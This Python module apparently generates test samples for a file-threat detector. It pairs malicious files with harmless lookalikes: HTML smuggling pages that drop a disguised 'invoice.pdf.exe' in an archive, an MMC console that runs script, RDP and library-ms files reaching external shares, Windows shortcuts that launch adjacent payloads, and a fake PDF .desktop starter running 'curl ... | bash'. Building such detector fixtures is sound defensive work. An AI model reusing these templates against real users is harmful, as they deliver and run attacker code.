"""Pages that make files, and texts and shortcuts that start something when they are opened: beside each the honest page, report,
starter or session that looks like it."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from assay.kinds.files.samples.archives import iso, zipped
from assay.kinds.files.samples.packed import sevenzip
from assay.kinds.files.samples.programs import pe
from assay.kinds.files.samples.sample import Sample
from assay.kinds.files.samples.scripts import HOST, shortcut

_MAKE = (
    "var b = new Blob([x], {type: 'octet/stream'}); var a = document.createElement('a'); a.href = URL.create"
    "ObjectURL(b);"
)
_HAND = "document.body.appendChild(a); a.click();"


def page(carried: str, name: str, *, hand: bool = True, how: str = "atob") -> bytes:
    """A page that makes a file of what it carries and hands it over under a name, unasked or by a button."""
    script = f"var t = {carried}; var x = {how}(t); {_MAKE} a.download = '{name}'; {_HAND if hand else ''}"
    return f"<!doctype html><html><body><p>Your document is being opened.</p><script>{script}</script></body></html>".encode()


def quoted(content: bytes) -> str:
    return '"' + base64.b64encode(content).decode() + '"'


def samples() -> Iterator[Sample]:
    noise = bytes(i * 73 + i // 7 & 0xFF for i in range(30_000))
    program = zipped([("invoice.pdf.exe", pe())])
    yield Sample(
        "a page that makes a file", "invoice.html", page(quoted(program), "invoice.zip"), "files.page-smuggles"
    )
    yield Sample(
        "a page that makes a file", "invoice.html", page(quoted(program), "invoice.zip"), "files.double-extension"
    )
    yield Sample(
        "a page that makes a file",
        "invoice.html",
        page(quoted(iso([("SCAN.PDF", pe())])), "scan.iso"),
        "files.page-smuggles",
    )
    yield Sample(
        "a page that makes a file",
        "invoice.html",
        page(quoted(sevenzip([("a.js", b"x")])), "a.7z"),
        "files.page-smuggles",
    )
    numbers = "[" + ",".join(map(str, program)) + "]"
    yield Sample(
        "a page that makes a file",
        "invoice.html",
        page(numbers, "invoice.zip", how="new Uint8Array"),
        "files.page-smuggles",
    )
    yield Sample(
        "a page that makes a file",
        "invoice.html",
        page('"' + program.hex() + '"', "invoice.zip", how="unhex"),
        "files.page-smuggles",
    )
    yield Sample(
        "a page that makes a file",
        "invoice.html",
        page(quoted(noise), "invoice.zip", how="undo"),
        "files.page-smuggles",
        mailed=True,
    )
    sheet = zipped([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")])
    yield Sample("", "report.html", page(quoted(sheet), "table.xlsx", hand=False))
    yield Sample(
        "",
        "picture.html",
        page(
            '"data:image/png;base64,' + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(30_000)).decode() + '"',
            "chart.png",
        ),
    )
    yield Sample("", "locked.html", b"<!doctype html><html><script>var m = " + quoted(noise).encode() + b"; document.forms[0].submit();</script></html>", mailed=True)  # fmt: skip

    redirect = (
        b"<?xml version='1.0'?><MMC_ConsoleFile><StringTables><StringTable><Strings><String ID='39'>res://apds.dll/red"
    )
    redirect += (
        b"irect.html?target=java"
        + b"script:eval(external.Document)</String></Strings></StringTable></StringTables></MMC_ConsoleFile>"
    )
    yield Sample("a console with a script", "report.msc", redirect, "files.console-runs")
    yield Sample("", "services.msc", b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'><StringTables><StringTable><Strings><String ID='1'>Services</String><String ID='2'>https://learn.example.org/</String></Strings></StringTable></StringTables></MMC_ConsoleFile>")  # fmt: skip
    session = "full address:s:{}:3389\r\nredirectclipboard:i:1\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\n"
    yield Sample("a session that hands over drives", "update.rdp", session.format("gate.example.net").encode("utf-16"), "files.remote-desktop", mailed=True)  # fmt: skip
    yield Sample("", "terminal.rdp", session.format("ts01.corp.local").encode(), mailed=True)
    yield Sample("", "terminal.rdp", session.format("gate.example.net").encode())
    library = '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>'  # fmt: skip
    yield Sample("a library that shows a foreign share", "papers.library-ms", library.format(f"\\\\{HOST}@80\\DavWWWRoot\\papers").encode(), "files.shortcut-abroad")  # fmt: skip
    yield Sample("", "papers.library-ms", library.format("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}").encode())
    yield Sample("", "papers.library-ms", library.format("\\\\files.corp.local\\papers").encode())
    found = (
        "[InternetShortcut]\r\nURL=search-ms:query=report&crumb=location:\\\\files.example.net@SSL\\DavWWWRoot\\\r\n"
    )
    yield Sample("a search of a foreign share", "report.url", found.encode(), "files.shortcut-abroad")
    starter = "[Desktop Entry]\nType=Application\nName=Report.pdf\nIcon=application-pdf\nTerminal=false\nExec={}\n"
    yield Sample("a starter that fetches", "report.desktop", starter.format(f"bash -c 'curl -s http://{HOST}/a | bash'").encode(), "files.shortcut-fetches")  # fmt: skip
    yield Sample("", "browser.desktop", starter.format("/usr/bin/browser --new-window %U").encode())

    runner = "C:\\Windows\\System32\\{}.exe"
    for name, arguments in (("rundll32", "data\\7za.dat,Entry"), ("cmd", "/c start /b wscript.exe scan.js"), ("regsvr32", "/s picture.png"), ("cmd", "/c \"start \"\" run.bat\"")):  # fmt: skip
        yield Sample(
            "starts what lies beside it",
            "Scan.lnk",
            shortcut(arguments, target=runner.format(name)),
            "files.shortcut-beside",
        )
    for name, arguments in (
        ("rundll32", "shell32.dll,Control_RunDLL desk.cpl"), ("cmd", "/k \"C:\\Program Files\\Tools\\vars64.bat\""), ("rundll32", "\"C:\\Program Files\\Maker\\panel.dll\",Open"),
        ("powershell", "-NoExit -File \"C:\\tools\\profile.ps1\""), ("cmd", "/k cd /d %USERPROFILE%"), ("rundll32", "printui.dll,PrintUIEntry /il"),
    ):  # fmt: skip
        yield Sample("", "Tool.lnk", shortcut(arguments, target=runner.format(name)))


__all__ = ["page", "quoted", "samples"]
